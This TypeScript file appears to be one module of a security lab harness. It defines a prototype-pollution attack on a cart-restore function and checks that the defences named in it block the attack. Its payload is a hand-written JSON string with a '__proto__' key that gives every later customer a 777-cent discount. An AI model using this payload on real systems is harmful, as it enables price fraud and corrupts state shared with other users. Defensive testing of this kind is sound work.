import type { Attack, AttackContext } from "../attack.ts";
import { field, type LabRequest, summary } from "../exchange.ts";
import { cartTwin, restore, saveCart, savedCart } from "./shared/requests.ts";

const DISCOUNT_CENTS = 777;

export const prototypePollution: Attack = {
  id: "prototype-pollution",
  title: "Give every later customer a discount (prototype pollution)",
  owasp: ["SAS-8", "CWE-1321"],
  paper: "III.2.C",
  defences: ["function:cart-signature", "function:cart-revival"],
  operation: "restoreCart",
  target: "carts",
  run: async (context) => {
    const answer = await context.send(pollute(context, DISCOUNT_CENTS));
    const clean = savedCart(await context.send(saveCart(context, "bob"), "setup"));
    const proof = await context.send(restore(context, clean, "bob"), "proof");
    const discount = field(proof, "discountCents");
    const effect = discount === DISCOUNT_CENTS;
    // The function stays warm: what later requests find must be what they would have found without this attack.
    if (effect) await context.send(pollute(context, 0), "setup");
    return { effect, evidence: effect ? `bob's clean cart has a discount of ${discount} cents` : summary(answer) };
  },
  twin: cartTwin,
};

/** The text is written by hand, because `JSON.stringify` has no way to say `__proto__`. */
function pollute(context: AttackContext, discountCents: number): LabRequest {
  return restore(context, `{"version":1,"lines":[],"__proto__":{"discountCents":${discountCents}}}`);
}
